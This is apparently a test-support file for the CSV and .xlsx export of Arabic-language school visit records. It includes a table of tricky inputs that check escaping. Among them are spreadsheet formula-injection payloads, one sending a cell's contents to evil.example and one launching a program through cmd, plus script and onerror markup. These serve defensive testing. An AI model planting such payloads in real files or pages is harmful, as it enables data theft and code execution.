import { aicha, nakhil } from './rows';

/** A visit of the file of tests/support/rows.ts whose subject and findings are a text. */
export const visitSaying = (text: string) => ({
  date: '2026-10-12',
  mentors: aicha,
  school: nakhil,
  cycle: 'الابتدائي',
  subject: text,
  findings: text,
});

/** What spreadsheets, CSV readers, HTML or bidirectional text like to execute or to mangle, by what is treacherous in it. */
export const treacherous: Readonly<Record<string, string>> = {
  'a formula': '=1+1',
  'a formula that leads elsewhere': '=HYPERLINK("http://evil.example/?"&A1;"اضغط هنا")',
  'a formula that starts a program': "=cmd|' /C calc'!A0",
  'a sum without =': '+1+1',
  'a telephone number': '+212 6 61 23 45 67',
  'a minus that begins a formula': '-2+3+cmd|x',
  'a bullet': '- نقطة',
  'bullets on several lines': '- نقطة أولى\n- نقطة ثانية\n= خلاصة',
  'an at sign': '@SUM(1;1)',
  'a tab, then a formula': '\t=1+1',
  'a lone tab between words': 'قبل\tبعد',
  'a line break, then a formula': '\n=1+1',
  'a carriage return, then a formula': '\r=1+1',
  'spaces, then a formula': '   =1+1',
  'a space that does not break, then a formula': '\u00a0=1+1',
  'a byte order mark, then a formula': '\ufeff=1+1',
  'full-width signs': '＝1＋1－1＠x',
  'a mark of direction, then a formula': '\u200f=1+1',
  'an apostrophe': "'مرحبا",
  'an apostrophe, then a formula': "'=1+1",
  'two apostrophes, then a formula': "''=1+1",
  'a long number': '0012345678901234567890',
  'leading zeros': '00123',
  'a fraction': '1/2',
  'a day, as text': '12/03/2026',
  'a power of ten': '1e5',
  'a word of truth': 'TRUE',
  'a mistake of a spreadsheet': '#N/A',
  'markup that runs': '<script>window.treacherous=1</script><img src=x onerror="window.treacherous=1">',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody typed.
  'what would close a script of ours': '</script><!-- ]]> <?= 1 ?> {{x}} ${x}',
  entities: '&lt;b&gt; &amp;amp; &#61;1+1 &nbsp;',
  'a text turned round': 'نص \u202eعكس\u202c و\u2066معزول\u2069 وغير مغلق \u202e\u2067',
  emoji: '👩🏽‍🏫 👨‍👩‍👧‍👦 🇲🇦',
  'what .xlsx writes for a sign': '_x0041_ و_x005F_x0041_ و_x000D_',
  'marks of spreadsheets and CSV': 'قال: "نعم"; ثم, ""لا"" ؛ و|\\',
  'a quote that never closes': '"مفتوح',
  'every kind of line break': 'أ\r\nب\rج\nد\u2028هـ\u2029و\u0085ز',
  'spaces at both ends': '  نص\u00a0 \n',
  'no-break and zero-width': 'نص\u00a0\u200b\u200c\u200d\u2060\ufeffنص',
  'what decomposes': 'e\u0301é أ\u0627\u0654',
  'signs that XML does not carry': 'جرس\u0007 رجوع\u0008 صفحة\u000c هروب\u001b حد\uffff',
  'names of every object': '__proto__ constructor toString',
  'a very long word': 'م'.repeat(3000),
};

/** The longest text that a cell of .xlsx holds, and one that is longer by a letter. */
export const longest = `=${'ن'.repeat(32_766)}`;
export const tooLong = `${longest}ن`;

/** Half of a pair: no text, though JSON carries it. */
export const halfAPair = 'نص \ud83d نص';

/** An RFC 4180 reader that knows nothing of ours. */
export function cellsOfCsv(csv: string, separator = ';'): string[][] {
  const pattern = new RegExp(`("(?:[^"]|"")*"|[^"${separator}\\r\\n]*)(${separator}|\\r\\n|$)`, 'y');
  const rows: string[][] = [];
  let row: string[] = [];
  while (pattern.lastIndex < csv.length) {
    const at = pattern.lastIndex;
    const found = pattern.exec(csv);
    if (!found) throw new Error(`no CSV at ${at}: ${JSON.stringify(csv.slice(at, at + 40))}`);
    const [, cell = '', end] = found;
    row.push(cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);
    if (end !== separator) {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}
